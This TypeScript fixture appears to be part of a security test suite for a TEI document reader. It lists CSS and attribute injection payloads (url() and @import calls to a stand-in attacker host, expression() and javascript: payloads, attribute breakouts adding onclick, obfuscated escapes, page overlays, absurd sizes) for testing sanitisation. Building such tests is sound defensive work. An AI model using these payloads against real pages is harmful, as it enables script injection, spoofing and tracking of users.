import {type Attack, escaped, evilHost, payload, textAttack} from './attack.js';

/** CSS that would load, run, cover the page or hide it. */
const declarations: Readonly<Record<string, string>> = {
  'url() of a background': `background: url(http://${evilHost}/b.png)`,
  'url() of a list, a cursor and a mask': `list-style: url(//${evilHost}/l); cursor: url(//${evilHost}/c), auto; mask: url(//${evilHost}/m)`,
  'image-set() and cross-fade()': `background-image: image-set("http://${evilHost}/i" 1x)`,
  'expression()': `width: expression(${payload}); behavior: url(#default#time2)`,
  '-moz-binding': `-moz-binding: url(http://${evilHost}/x.xml#x)`,
  'javascript: in url()': `background: url(javascript:${payload})`,
  '@import': `@import url(http://${evilHost}/x.css); @font-face {src: url(//${evilHost}/f)}`,
  'an overlay of the host': 'position: fixed; inset: 0; z-index: 2147483647; background: red',
  'an overlay by absolute position':
    'position: absolute; top: -9999px; left: -9999px; width: 99999px; height: 99999px',
  'a transform out of the box': 'transform: translate(-5000px, -5000px) scale(1000)',
  'huge sizes':
    'font-size: 99999px; width: 1e9px; margin: -1e9px; padding: 1e9px; border: 99999px solid',
  'negative margins':
    'margin: -9999px; text-indent: -9999px; letter-spacing: -100em; line-height: 0',
  'generated content': 'content: "spoofed"; display: contents',
  'custom properties of the reader and the host': `--lectern-ink: transparent; --_ink: red; --host: url(//${evilHost})`,
  'hidden words':
    'display: none; visibility: hidden; opacity: 0; color: transparent; clip-path: inset(100%)',
  'the end of a declaration, a rule and a style element': `color: red} * {display: none} /*`,
  'the end of an attribute': `color: red" onclick="${payload}`,
  'escapes of CSS': `\\70osition: \\66ixed; b\\61 ckground: u\\72l(//${evilHost})`,
  'comments in CSS': `po/**/sition:/**/fixed; background:/*x*/url(//${evilHost})`,
  'a filter and an animation that never end': `filter: url(//${evilHost}#f); animation: x 1ms infinite; transition: all 1ms`,
  'pointer events over the host': 'pointer-events: all; position: sticky; cursor: none',
  'long runs of one character': `${'color:'.repeat(5000)}${';'.repeat(5000)}`,
};

/** CSS in all places where TEI has room for it. */
export const styleInjection: readonly Attack[] = [
  ...Object.entries(declarations).map(([what, css]) => {
    const value = escaped(css);
    return textAttack(
      `CSS in @style, @rend, @rendition and tagsDecl: ${what}`,
      `<p style="${value}">a <hi style="${value}" rend="${value}" rendition="${value}">b</hi>
        <persName ref="#x" style="${value}">c</persName> <note style="${value}" place="${value}">d</note>
        <hi rendition="#r">e</hi> <hi rend="${value.replaceAll(': ', '(').replaceAll(';', ')')})">f</hi></p>
        <list style="${value}"><item style="${value}">g</item></list>
        <table style="${value}"><row style="${value}"><cell style="${value}" cols="${value}">h</cell></row></table>
        <figure style="${value}"><graphic url="i.png" width="${value}" height="${value}" scale="${value}"/></figure>`,
      {
        header: `<fileDesc><titleStmt><title style="${value}" rend="${value}">A</title></titleStmt><publicationStmt><p style="${value}">x</p></publicationStmt><sourceDesc><p>x</p></sourceDesc></fileDesc>
          <encodingDesc><tagsDecl><rendition xml:id="r" scheme="css">${value}</rendition><rendition selector="p, *, :root, lectern-text" scope="before">${value}</rendition><namespace name="http://www.tei-c.org/ns/1.0"><tagUsage gi="p" render="#r"/></namespace></tagsDecl></encodingDesc>`,
      },
    );
  }),
  textAttack(
    'class names of the reader and of the host',
    '<p class="lectern-document skip badge" part="problem" slot="pane-0" id="stage" hidden="" inert="" contenteditable="true" dir="rtl" translate="no" draggable="true">a</p>',
  ),
  textAttack(
    'cells that span without end',
    `<table>${`<row>${'<cell cols="1000" rows="65534">x</cell>'.repeat(10)}</row>`.repeat(10)}</table><table><row><cell cols="99999999999" rows="-5">y</cell><cell cols="1e9" rows="NaN">z</cell></row></table>`,
  ),
  textAttack(
    'lists that begin without end',
    '<list rend="numbered"><item n="99999999999999999999">a</item><item n="-1">b</item><item n="javascript:">c</item></list><l n="99999999999999999999">v</l>',
  ),
  textAttack(
    'space, gaps and indents without end',
    '<p><space quantity="99999999" unit="chars"/><space quantity="1e9" dim="vertical" unit="lines"/><gap quantity="999999999" unit="chars" extent="999999999 chars"/><gap quantity="-1"/><damage quantity="1e308"/><hi rend="indent(99999999)">x</hi></p><lg><l rend="indent-99999">v</l></lg>',
  ),
  textAttack('surfaces and zones of the size of the universe', '<p>a</p>', {
    standOff:
      '<sourceDoc><surface ulx="-1e308" uly="0" lrx="1e308" lry="1e308"><zone ulx="0" uly="0" lrx="999999999999" lry="999999999999" rotate="1e308" points="1e999,1 2,2 3,3"><line>x</line></zone></surface></sourceDoc>',
  }),
];
